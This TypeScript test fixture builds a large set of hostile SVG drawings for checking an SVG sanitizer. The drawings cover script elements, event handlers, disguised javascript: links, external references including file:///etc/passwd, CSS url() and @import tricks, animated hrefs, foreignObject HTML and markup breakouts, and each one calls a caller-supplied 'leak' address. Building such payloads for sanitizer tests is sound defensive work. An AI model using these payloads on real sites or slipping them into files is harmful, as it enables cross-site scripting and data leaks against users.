/** A drawing that tries to run a program or to load something from `leak`. */
export interface HostileSvg {
  kind: string;
  name: string;
  svg: string;
}

const NAMESPACES = [
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"',
  'xmlns:l="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events"',
].join(' ');

const svg = (content: string, { attributes = '', prolog = '' } = {}): string =>
  `${prolog}<svg ${NAMESPACES} width="200" height="200"${attributes}>${content}<rect width="9" height="9" fill="green"/></svg>`;

/** What every script does: it leaves a mark, and asks the other site. */
const script = (leak: string): string => `globalThis.canary=1;fetch('${leak}')`;

const base64 = (text: string): string => Buffer.from(text).toString('base64');

type Cases = (leak: string) => Record<string, string>;

const SCRIPTS: Cases = (leak) => {
  const code = script(leak);
  return {
    plain: svg(`<script>${code}</script>`),
    'in CDATA': svg(`<script><![CDATA[${code}]]></script>`),
    'of another type': svg(`<script type="application/ecmascript">${code}</script>`),
    'as a module': svg(`<script type="module">${code}</script>`),
    'from another site': svg(`<script href="${leak}"/>`),
    'from another site by xlink': svg(`<script xlink:href="${leak}"/>`),
    'from another site by a prefix of its own': svg(`<script l:href="${leak}"/>`),
    'in a data URL': svg(`<script href="data:text/javascript;base64,${base64(code)}"/>`),
    'with a prefix': svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${code}</s:script>`),
    'of XHTML': svg(`<h:script>${code}</h:script>`),
    'of XHTML by default': svg(`<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`),
    'in definitions': svg(`<defs><g><symbol><script>${code}</script></symbol></g></defs>`),
    'in a title': svg(`<title>a<h:script>${code}</h:script></title>`),
    'in a description': svg(`<desc><script>${code}</script></desc>`),
    'in metadata': svg(`<metadata><h:script>${code}</h:script></metadata>`),
    'in a text': svg(`<text>a<script>${code}</script></text>`),
    'in a switch': svg(`<switch><script>${code}</script></switch>`),
    'in an unknown element': svg(`<b:box xmlns:b="urn:b"><script>${code}</script></b:box>`),
    'in a style sheet': svg(`<style>a{}<script>${code}</script></style>`),
    'nested in a script': svg(`<script>1;<script>${code}</script></script>`),
    'with a handler for XML events': svg(`<handler ev:event="load" type="text/javascript">${code}</handler>`),
    'with a listener': svg(`<ev:listener event="click" handler="#a"/><script id="a">${code}</script>`),
    'in a drawing in a drawing': svg(`<svg><svg><script>${code}</script></svg></svg>`),
    'with references for letters': svg(`<script>${code.replace('g', '&#103;')}</script>`),
    'without a namespace': svg(`<script xmlns="">${code}</script>`),
    'as the constructor of an object': svg(`<constructor/><__proto__/><script>${code}</script>`),
    'in capitals': svg(`<SCRIPT>${code}</SCRIPT>`),
  };
};

const HANDLERS = [
  ...[
    'load',
    'unload',
    'error',
    'click',
    'mouseover',
    'mousedown',
    'mousemove',
    'focus',
    'focusin',
    'activate',
    'zoom',
  ],
  ...['resize', 'scroll', 'begin', 'end', 'repeat', 'pointerenter', 'animationstart', 'animationend', 'transitionend'],
  ...['wheel', 'beforetoggle', 'toggle', 'auxclick', 'copy', 'paste', 'keydown', 'message', 'hashchange', 'pageshow'],
];

const EVENT_HANDLERS: Cases = (leak) => {
  const code = script(leak);
  const inAll = Object.fromEntries(
    HANDLERS.map((name) => [`on${name} of the root`, svg('', { attributes: ` on${name}="${code}"` })]),
  );
  return {
    ...inAll,
    'onload of a group': svg(`<g onload="${code}"/>`),
    'onerror of a picture': svg(`<image href="data:image/png;base64,AAAA" onerror="${code}" width="9" height="9"/>`),
    'onbegin of an animation': svg(`<rect><animate attributeName="x" dur="1s" onbegin="${code}"/></rect>`),
    'onend of a set': svg(`<rect><set attributeName="x" to="1" dur="0.01s" onend="${code}"/></rect>`),
    'in capitals': svg('', { attributes: ` ONLOAD="${code}"` }),
    'with a prefix': svg('', { attributes: ` xlink:onload="${code}"` }),
    'by a default of the document type': svg('', {
      prolog: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${code}">]>`,
    }),
    'with references for letters': svg('', { attributes: ` onload="${code.replace('g', '&#x67;')}"` }),
    'of a style sheet': svg(`<style onload="${code}">a{}</style>`),
    'of an element of XHTML': svg(`<h:img src="x" onerror="${code}"/>`),
  };
};

/** Addresses of scripts, as browsers read them. */
const DISGUISES = (leak: string): Record<string, string> => {
  const code = script(leak);
  return {
    plain: `javascript:${code}`,
    'in capitals': `JaVaScRiPt:${code}`,
    'after spaces': `   javascript:${code}`,
    'after control characters': `&#9;&#10;javascript:${code}`,
    'with a tab': `java&#9;script:${code}`,
    'with a line feed': `java&#10;script:${code}`,
    'with references': `&#106;&#x61;vascript:${code}`,
    'with a comment': `javascript:/*-->*/${code}`,
    'after a no-break space': `&#160;javascript:${code}`,
    'of VBScript': `vbscript:${code}`,
    'with an authority': `javascript://%0a${code}`,
    'in a page': `data:text/html;base64,${base64(`<script>${code}</script>`)}`,
    'in a drawing': `data:image/svg+xml,${encodeURIComponent(svg(`<script>${code}</script>`))}#a`,
    'in XML': `data:application/xml;base64,${base64(svg(`<script>${code}</script>`))}#a`,
    'of a blob': 'blob:null/1',
  };
};

const LINKS: Cases = (leak) =>
  Object.fromEntries(
    Object.entries(DISGUISES(leak)).flatMap(([name, url]) =>
      Object.entries({
        'a link': `<a href="${url}"><rect width="200" height="200"/></a>`,
        'a link by xlink': `<a xlink:href="${url}"><rect width="200" height="200"/></a>`,
        'a use': `<use l:href="${url}"/>`,
      }).map(([place, content]) => [`${name} in ${place}`, svg(content)]),
    ),
  );

/** Elements that refer to others, with a place for the address. */
const REFERRING = {
  image: '<image HREF width="9" height="9"/>',
  use: '<use HREF width="9" height="9"/>',
  feImage: '<filter id="f"><feImage HREF/></filter><rect width="9" height="9" filter="url(#f)"/>',
  linearGradient: '<linearGradient id="f" HREF/><rect width="9" height="9" fill="url(#f)"/>',
  pattern: '<pattern id="f" HREF/><rect width="9" height="9" fill="url(#f)"/>',
  filter: '<filter id="f" HREF/><rect width="9" height="9" filter="url(#f)"/>',
  textPath: '<text><textPath HREF>a</textPath></text>',
  tref: '<text><tref HREF/></text>',
  mpath: '<rect><animateMotion dur="1s"><mpath HREF/></animateMotion></rect>',
  animate: '<animate HREF attributeName="x" to="1" dur="1s"/>',
  cursor: '<cursor id="f" HREF/><rect width="9" height="9" cursor="url(#f)"/>',
  'font-face-uri': '<font-face font-family="f"><font-face-src><font-face-uri HREF/></font-face-src></font-face>',
  glyphRef: '<text><altGlyph HREF>a</altGlyph></text>',
  'color-profile': '<color-profile name="f" HREF/>',
  'xi:include': '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" HREF/>',
};

const REFERENCES: Cases = (leak) => {
  const { host } = new URL(leak);
  const addresses = { absolute: `${leak}#a`, 'without a scheme': `//${host}/leak#a`, relative: 'leak?relative#a' };
  const cases: Record<string, string> = {};
  for (const [element, content] of Object.entries(REFERRING))
    for (const [kind, address] of Object.entries(addresses))
      for (const attribute of kind === 'absolute' ? ['href', 'xlink:href', 'l:href'] : ['href'])
        cases[`${kind} address of ${element} by ${attribute}`] = svg(
          content.replace('HREF', `${attribute}="${address}"`),
        );
  return {
    ...cases,
    'of a file': svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
    'by a base': svg('<g xml:base="URL"><image href="#a" width="9" height="9"/></g>'.replace('URL', leak)),
    'by a base of the root': svg('<use href="#a"/>', { attributes: ` xml:base="${leak}"` }),
    'of a picture of XHTML': svg(`<h:img src="${leak}"/>`),
    'of a style sheet of XHTML': svg(`<h:link rel="stylesheet" href="${leak}"/>`),
    'of an SVG in a picture': svg(
      `<image width="9" height="9" href="data:image/svg+xml;base64,${base64(svg(`<image href="${leak}"/>`))}"/>`,
    ),
    'of SVG called PNG': svg(`<image width="9" height="9" href="data:image/png,${encodeURIComponent(svg(''))}"/>`),
    'with a ping': svg(`<a href="#a" ping="${leak}"><rect width="200" height="200"/></a>`),
    'of a source': svg(`<image src="${leak}" srcset="${leak} 2x" width="9" height="9"/>`),
    'by a processing instruction': svg('', { prolog: `<?xml-stylesheet href="${leak}" type="text/css"?>` }),
    'by a transformation': svg('', { prolog: `<?xml-stylesheet href="${leak}" type="text/xsl"?>` }),
    'by an instruction within': svg(`<?xml-stylesheet href="${leak}"?>`),
    'by an external document type': svg('', { prolog: `<!DOCTYPE svg SYSTEM "${leak}">` }),
  };
};

/** Values of CSS that refer to another site. */
const VALUES = (leak: string): Record<string, string> => ({
  plain: `url(${leak})`,
  'in quotes': `url("${leak}")`,
  'in capitals': `URL('${leak}')`,
  'with an escape': `\\75rl(${leak})`,
  'with an escape and a space': `u\\72 l("${leak}")`,
  'with long escapes': `\\000075\\000072\\00006c("${leak}")`,
  'with spaces': `url(  ${leak}  )`,
  'after another': `url(#a), url(${leak})`,
  'with a fallback': `url(${leak}#a) red`,
  'after a comment': `/**/url(${leak})`,
  'in a set of pictures': `image-set("${leak}" 1x)`,
  'in a set of pictures with a prefix': `-webkit-image-set(url(${leak}) 1x)`,
  'as a picture': `image("${leak}")`,
  'as a source': `src("${leak}")`,
  'in a cross-fade': `cross-fade(url(${leak}), url(#a))`,
  'in a variable': `var(--none, url(${leak}))`,
  'not ended': `url(${leak}`,
  'as a script': `url(javascript:alert(1))`,
  'as an expression': `expression(alert(1))`,
});

const quoted = (value: string): string =>
  value.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

const STYLES: Cases = (leak) => {
  const cases: Record<string, string> = {};
  for (const [name, value] of Object.entries(VALUES(leak))) {
    const style = `fill:${value};filter:${value};mask:${value};cursor:${value};background-image:${value}`;
    cases[`${name} in a style sheet`] = svg(`<style>rect{${style}}</style>`);
    cases[`${name} in a style`] = svg(`<rect width="99" height="99" style="${quoted(style)}"/>`);
    cases[`${name} in attributes`] = svg(
      ['fill', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor', 'stroke']
        .map((property) => `<path d="M0 0 L9 9" ${property}="${quoted(value)}"/>`)
        .join(''),
    );
  }
  return cases;
};

const SHEETS: Cases = (leak) => {
  const text = '<text y="50" font-family="f">a</text>';
  const sheets = {
    'an import': `@import url(${leak});`,
    'an import of a string': `@import "${leak}";`,
    'an import in capitals': `@IMPORT '${leak}';`,
    'an import with an escape': `@\\69mport "${leak}";`,
    'an import after a comment': `/*a*/@import/**/"${leak}";`,
    'an import with a layer': `@import "${leak}" layer(a) supports(fill: red) screen;`,
    'an import after a character set': `@charset "utf-8";@import "${leak}";`,
    'an import in HTML comments': `<![CDATA[<!-- @import "${leak}"; -->]]>`,
    'an import in CDATA': `<![CDATA[@import "${leak}";]]>`,
    'an import in two pieces': `@imp<![CDATA[ort "${leak}";]]>`,
    'an import around an element': `@import <b xmlns="urn:b">b</b>"${leak}";`,
    'a font': `@font-face{font-family:f;src:url(${leak})}`,
    'a font with an escape': `@font-\\66 ace{font-family:f;src:url("${leak}")}`,
    'a font with a format': `@font-face{font-family:f;src:local(x),url(${leak})format("woff2")}`,
    'a font in a data URL': '@font-face{font-family:f;src:url(data:font/woff2;base64,AAAA)}',
    'a rule for a medium': `@media screen{rect{fill:url(${leak}#a);background:url(${leak})}}`,
    'a rule in a rule': `svg{&amp; rect{filter:url(${leak}#a)}}`,
    'a rule in a layer': `@layer a{@media all{rect{mask:url(${leak})}}}`,
    'a rule that applies': `@supports (fill:red){rect{filter:url(${leak})}}`,
    'a variable': `svg{--a:url(${leak})}rect{filter:var(--a);background:var(--a)}`,
    'a registered variable': `@property --a{syntax:"&lt;url>";inherits:true;initial-value:url(${leak})}`,
    'a namespace': `@namespace a url(${leak});`,
    'a page': `@page{background:url(${leak})}`,
    'key frames': `@keyframes k{from{filter:url(${leak})}to{mask:url(${leak})}}rect{animation:k 1s}`,
    'a cursor': `svg,rect{cursor:url(${leak}),auto}`,
    'a list': `rect{display:list-item;list-style-image:url(${leak})}`,
    'content before an element': `svg::before{content:url(${leak})}`,
    'a guess at an attribute': `rect[width^="9"]{mask-image:url(${leak})}`,
    'a binding': `rect{-moz-binding:url(${leak}#a);behavior:url(${leak})}`,
    'a document rule': `@-moz-document url(${leak}){rect{fill:red}}`,
    'a counter style': `@counter-style a{symbols:url(${leak})}`,
    'a scope': `@scope(svg){rect{filter:url(${leak})}}`,
    'a starting style': `@starting-style{rect{filter:url(${leak})}}`,
    'a broken rule before it': `}}rect{fill:red}rect{filter:url(${leak})}`,
    'a broken string before it': `rect{font-family:"a\nb;filter:url(${leak})}`,
    'a comment that does not end': `rect{filter:url(${leak})}/*`,
    'an address of several lines': `rect{filter:url("${leak.replace('leak', 'le\\\nak')}")}`,
    'an escaped number sign': `rect{filter:url(\\23 a);mask:url("\\68ttp://${new URL(leak).host}/leak")}`,
  };
  return Object.fromEntries(
    Object.entries(sheets).map(([name, css]) => [
      name,
      svg(`<style>${css}</style>${text}<rect width="9" height="9"/>`),
    ]),
  );
};

const ANIMATIONS: Cases = (leak) => {
  const url = `javascript:${script(leak)}`;
  const link = (animation: string) => svg(`<a id="a"><rect width="200" height="200"/>${animation}</a>`);
  return {
    'set a link': link(`<set attributeName="href" to="${url}"/>`),
    'set a link by xlink': link(`<set attributeName="xlink:href" to="${url}"/>`),
    'set a link by another prefix': link(`<set attributeName="l:href" to="${url}"/>`),
    'set a link with spaces': link(`<set attributeName=" href " to="${url}"/>`),
    'set a link in capitals': link(`<set attributeName="HREF" to="${url}"/>`),
    'animate a link': link(`<animate attributeName="href" values="${url};${url}" dur="9s"/>`),
    'animate a link to': link(`<animate attributeName="href" from="#a" to="${url}" dur="9s" fill="freeze"/>`),
    'animate another element': svg(
      `<a id="a"><rect width="200" height="200"/></a><set href="#a" attributeName="href" to="${url}"/>`,
    ),
    'animate a picture': svg(
      `<image width="9" height="9"><animate attributeName="href" values="${leak};${leak}" dur="1s"/></image>`,
    ),
    'animate a use': svg(`<use><set attributeName="href" to="${leak}#a"/></use>`),
    'animate a handler': svg(`<rect width="9" height="9"><set attributeName="onclick" to="${script(leak)}"/></rect>`),
    'animate a style': svg(`<rect width="9" height="9"><set attributeName="style" to="fill:url(${leak})"/></rect>`),
    'animate a fill': svg(`<rect width="9" height="9"><set attributeName="fill" to="url(${leak}#a)"/></rect>`),
    'animate a filter': svg(
      `<rect width="9" height="9"><animate attributeName="filter" values="none;url(${leak}#a)" dur="1s"/></rect>`,
    ),
    'animate by a transformation': link(`<animateTransform attributeName="href" to="${url}"/>`),
    'animate by a prefix': link(`<s:set xmlns:s="http://www.w3.org/2000/svg" attributeName="href" to="${url}"/>`),
  };
};

const FOREIGN: Cases = (leak) => {
  const code = script(leak);
  const contents = {
    'a frame': `<h:iframe src="${leak}"/>`,
    'a frame with a document': `<h:iframe srcdoc="&lt;script>parent.canary=1&lt;/script>"/>`,
    'a picture': `<h:img src="${leak}" onerror="${code}"/>`,
    'a script': `<h:script>${code}</h:script>`,
    'a body': `<h:body onload="${code}"/>`,
    'an object': `<h:object data="${leak}"/>`,
    'an embedded document': `<h:embed src="${leak}"/>`,
    'a film': `<h:video src="${leak}" poster="${leak}" autoplay="autoplay"/>`,
    'a sound': `<h:audio src="${leak}" autoplay="autoplay"/>`,
    'a style sheet': `<h:style>@import "${leak}";</h:style>`,
    'a link': `<h:link rel="stylesheet" href="${leak}"/>`,
    'a reload': `<h:meta http-equiv="refresh" content="0;url=${leak}"/>`,
    'a base': `<h:base href="${leak}"/>`,
    'a form': `<h:form action="${leak}"><h:input formaction="${leak}" autofocus="autofocus" onfocus="${code}"/></h:form>`,
    'a frame set': `<h:frameset onload="${code}"><h:frame src="${leak}"/></h:frameset>`,
    'a template': `<h:template><h:img src="${leak}"/></h:template>`,
    'a portal': `<h:portal src="${leak}"/>`,
    'a picture with sources': `<h:picture><h:source srcset="${leak}"/><h:img/></h:picture>`,
    'a detail': `<h:details open="open" ontoggle="${code}"/>`,
    'a text with a style': `<h:p style="background:url(${leak})">a</h:p>`,
    'a formula': `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${code}">a</mtext></math>`,
    'another drawing': `<svg><script>${code}</script></svg>`,
  };
  return Object.fromEntries(
    Object.entries(contents).flatMap(([name, content]) => [
      [`${name} in a foreign object`, svg(`<foreignObject width="99" height="99">${content}</foreignObject>`)],
      [`${name} in the drawing`, svg(content)],
    ]),
  );
};

const MARKUP: Cases = (leak) => {
  const image = `&lt;img src="${leak}" onerror="${script(leak)}">`;
  return {
    'that ends a title': svg(`<title>&lt;/title>${image}</title>`),
    'that ends a style sheet': svg(`<style>a{}&lt;/style>${image}</style>`),
    'that ends an attribute': svg(`<g id="${`--&gt;${image.replaceAll('"', '&quot;')}`}"/>`),
    'in a class': svg(`<g class="${quoted(`</style>${image}`)}"/>`),
    'in a comment': svg(`<!--${image}--><!-- ><script>${script(leak)}</script> -->`),
    'in CDATA': svg(`<text><![CDATA[<script>${script(leak)}</script>]]></text>`),
    'in a family of fonts': svg(`<text font-family="${quoted(`x;}</style>${image}`)}">a</text>`),
    'in an instruction': svg(`<?php echo '<script>${script(leak)}</script>' ?>`),
    'after the drawing': `${svg('')}<!-- <script>${script(leak)}</script> --><?xml-stylesheet href="${leak}"?>`,
    'in an entity': svg('<text>&e;</text>', {
      prolog: `<!DOCTYPE svg [<!ENTITY e "a&#38;#60;script>">]>`.replace('&#38;#60;', 'script'),
    }),
  };
};

const KINDS: Record<string, Cases> = {
  script: SCRIPTS,
  'event handler': EVENT_HANDLERS,
  'address of a script': LINKS,
  reference: REFERENCES,
  'value of CSS': STYLES,
  'style sheet': SHEETS,
  animation: ANIMATIONS,
  'foreign content': FOREIGN,
  markup: MARKUP,
};

/** All hostile drawings, by kind. `leak` is an address that nothing may ask for. */
export const hostileSvgs = (leak: string): HostileSvg[] =>
  Object.entries(KINDS).flatMap(([kind, cases]) =>
    Object.entries(cases(leak)).map(([name, text]) => ({ kind, name, svg: text })),
  );
